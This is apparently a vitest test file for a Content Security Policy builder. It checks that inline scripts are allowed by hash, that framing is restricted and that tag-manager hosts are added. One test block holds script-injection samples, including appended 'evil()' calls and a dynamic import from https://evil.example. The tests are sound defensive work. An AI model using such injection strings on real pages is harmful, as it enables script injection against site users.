import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { firstScript } from '../../app/client/layout.ts';
import { newTabsAhead } from '../../app/new-tabs-ahead.ts';
import { contentSecurityPolicy } from './content-security-policy.ts';
import { afterFirstPicture } from './scripts-last.ts';

const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
const alone = { tagManagerScript: '', framedBy: null };

describe('the content security policy of a page', () => {
	const data = 'window.__reactRouterContext.streamController.enqueue("[1]");';

	it('allows the first script, what is fetched ahead, what lets the others out and the data that the router hands over', () => {
		const own = [firstScript, newTabsAhead, afterFirstPicture, data];
		const policy = contentSecurityPolicy(own.map((script) => `<script>${script}</script>`).join(''), alone);
		expect(policy).toContain(`script-src 'self' ${own.map(hashOf).join(' ')};`);
	});

	it.each([
		'evil()',
		`${newTabsAhead};evil()`,
		`${firstScript};evil()`,
		`${afterFirstPicture};evil()`,
		'window.__reactRouterContext.streamController.enqueue("" + evil());',
		'window.__reactRouterContext.streamController.enqueue("");evil("");',
		`window.__reactRouterContext.streamController.close();evil()`,
		'import "/assets/a.js";import("https://evil.example/b.js");',
		'window.__reactRouterContext = {"a":evil()};',
	])('does not allow a script that came into the page otherwise: %s', (script) => {
		expect(contentSecurityPolicy(`<script>${script}</script>`, alone)).toContain("script-src 'self';");
	});

	it('does not open for what is no address', () => {
		expect(contentSecurityPolicy('', { ...alone, tagManagerScript: 'gtm.js' })).toBe(contentSecurityPolicy('', alone));
	});

	it('never allows inline styles, eval or other hosts', () => {
		const policy = contentSecurityPolicy(
			'<script src="/a.js"></script><script type="application/ld+json">{}</script>',
			alone,
		);
		expect(policy).not.toMatch(/unsafe|http|sha256/);
	});

	it('allows the host of the tag manager where there is one', () => {
		const policy = contentSecurityPolicy('', { ...alone, tagManagerScript: 'https://tags.example/gtm.js' });
		expect(policy).toMatch(/script-src [^;]*https:\/\/tags\.example/);
	});

	it('lets nobody frame a page, but the studio its previews', () => {
		expect(contentSecurityPolicy('', alone)).toContain("frame-ancestors 'none'");
		expect(contentSecurityPolicy('', { ...alone, framedBy: 'http://studio.example' })).toContain(
			'frame-ancestors http://studio.example',
		);
	});
});
